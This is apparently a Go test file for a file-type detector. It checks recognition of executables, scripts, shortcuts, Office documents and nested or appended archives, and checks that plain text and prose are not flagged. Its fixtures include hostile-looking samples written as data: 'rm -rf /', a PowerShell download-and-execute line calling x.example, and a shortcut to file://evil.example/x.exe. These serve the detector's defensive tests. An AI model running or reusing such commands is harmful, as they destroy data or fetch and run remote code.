package archive

import (
	"bytes"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"
)

func utf16LE(s string) []byte {
	b := []byte{0xff, 0xfe}
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return b
}

// TestDetect: programs by what they are, and text that only speaks of them.
func TestDetect(t *testing.T) {
	pe := make([]byte, 256)
	copy(pe, "MZ\x90\x00")
	pe[0x3c] = 0x80
	copy(pe[0x80:], "PE\x00\x00")
	prose := "Dear colleagues,\r\nyou asked how to write a file from VBScript: use CreateObject(\"Scripting.FileSystemObject\") and then " +
		"WScript.Echo to see the result. Set the path before. PowerShell users take Invoke-Expression or New-Object instead, as the handbook " +
		"explains on the pages that I attached to my last message to all of you. Have a pleasant weekend, and say hello to everybody at home.\r\n"
	tests := []struct {
		name  string
		bytes []byte
		want  Type
	}{
		{"nothing", nil, Type{Media: "text/plain"}},
		{"PE", pe, Type{Media: "application/vnd.microsoft.portable-executable", Program: "pe"}},
		{"ELF", []byte("\x7fELF\x02\x01\x01\x00"), Type{Media: "application/x-executable", Program: "elf"}},
		{"Java", []byte("\xca\xfe\xba\xbe\x00\x00\x00\x34"), Type{Media: "application/x-java-applet", Program: "java"}},
		{"universal Mach-O", []byte("\xca\xfe\xba\xbe\x00\x00\x00\x02"), Type{Media: "application/x-mach-binary", Program: "mach-o"}},
		{"shortcut", []byte("L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00"), Type{Media: "application/x-ms-shortcut", Program: "lnk"}},
		{"help", []byte("ITSF\x03\x00\x00\x00\x60"), Type{Media: "application/vnd.ms-htmlhelp", Program: "chm"}},
		{"shell", []byte("#!/bin/sh\nrm -rf /\n"), Type{Media: "text/x-shellscript", Program: "script"}},
		{"batch", []byte("@echo off\r\nstart calc.exe\r\n"), Type{Media: "application/x-bat", Program: "script"}},
		{"JScript", []byte("var s = new ActiveXObject(\"WScript.Shell\");\ns.Run(\"calc\");\n"), Type{Media: "text/javascript", Program: "script"}},
		{"VBScript", []byte("Dim s\nSet s = CreateObject(\"WScript.Shell\")\ns.Run(\"calc\")\n"), Type{Media: "text/vbscript", Program: "script"}},
		{"VBScript in UTF-16", utf16LE("Dim s\nSet s = CreateObject(\"WScript.Shell\")\ns.Run(\"calc\")\n"), Type{Media: "text/vbscript", Program: "script"}},
		{"PowerShell", []byte("$c = New-Object Net.WebClient\niex ($c.DownloadString('http://x.example/'))\n"), Type{Media: "text/x-powershell", Program: "script"}},
		{"HTA", []byte("<html><head><HTA:APPLICATION id=x></head></html>"), Type{Media: "application/hta", Program: "hta"}},
		{"registry", []byte("Windows Registry Editor Version 5.00\r\n"), Type{Media: "text/x-ms-regedit", Program: "reg"}},
		{"link file", []byte("[InternetShortcut]\r\nURL=file://evil.example/x.exe\r\n"), Type{Media: "application/x-mswinurl", Program: "url"}},
		{"speaks of scripts", []byte(prose), Type{Media: "text/plain"}},
		{"OneNote", []byte("\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3\x00"), Type{Media: "application/onenote", Document: "onenote"}},
		{"RTF", []byte("{\\rt x"), Type{Media: "text/rtf", Document: "rtf"}},
		{"PDF behind junk", []byte("junk\n%PDF-1.4\n"), Type{Media: "application/pdf", Document: "pdf"}},
		{"docx", docx(t), Type{Media: "application/vnd.openxmlformats-officedocument.wordprocessingml.document", Document: "ooxml"}},
		{"docx with its types last", zipped(t, file{"a.txt", "x"}, file{"_rels/.rels", "x"}, file{"[Content_Types].xml", "x"}), Type{Media: "application/vnd.openxmlformats-officedocument", Document: "ooxml"}},
		{"zip with a docx in it", handZip(plainFile("a.docx", string(docx(t))), plainFile("b.exe", "MZ")), Type{Media: "application/zip", Archive: "zip"}},
		{"jar", zipped(t, file{"a.class", "x"}, file{"META-INF/MANIFEST.MF", "x"}), Type{Media: "application/java-archive", Program: "jar", Archive: "zip"}},
		{"zip behind a program", append(slices.Clone(pe), zipped(t, file{"a", "x"})...), Type{Media: "application/vnd.microsoft.portable-executable", Program: "pe", Also: "zip"}},
		{"rar behind a picture", append([]byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;"), rar5(file{"a", "x"})...), Type{Media: "image/gif", Also: "rar"}},
		{"tar without a mark", run(t, "tar", []string{"tar", "cf", "x.tar", "--format=v7", "a"}, "x.tar", file{"a", "x"}), Type{Media: "application/x-tar", Archive: "tar"}},
		{"ISO", isoImage("x"), Type{Media: "application/x-iso9660-image", Archive: "iso"}},
		{"VHD with a mark at its end", append(bytes.Repeat([]byte{1}, 2048), append([]byte("conectix"), make([]byte, 504)...)...), Type{Media: "application/x-vhd", Archive: "vhd"}},
		{"cabinet", cabinet("a"), Type{Media: "application/vnd.ms-cab-compressed", Archive: "cab"}},
		{"winmail.dat", winmail(), Type{Media: "application/vnd.ms-tnef", Archive: "tnef"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := DetectFile(bytes.NewReader(tt.bytes), int64(len(tt.bytes))); got != tt.want {
				t.Errorf("got %+v, want %+v", got, tt.want)
			}
		})
	}
}

// TestOrdinaryText: words that are marks elsewhere.
func TestOrdinaryText(t *testing.T) {
	for _, text := range []string{
		"ZOO tickets\n", "FWS is short for something\n", "EGGA\n", "070701 is the number of my contract\n", "BZh is no word\n",
		"id;price\n1;2\n", "set of rules\nstart here\n", "function of the department\nvar is a department of France\n",
		"]\xea is what a cat wrote\n", strings.Repeat("Lorem ipsum dolor sit amet. ", 400),
	} {
		if got := DetectFile(strings.NewReader(text), int64(len(text))); got.Program != "" || got.Archive != "" || got.Also != "" {
			t.Errorf("%.30q: %+v", text, got)
		}
	}
}
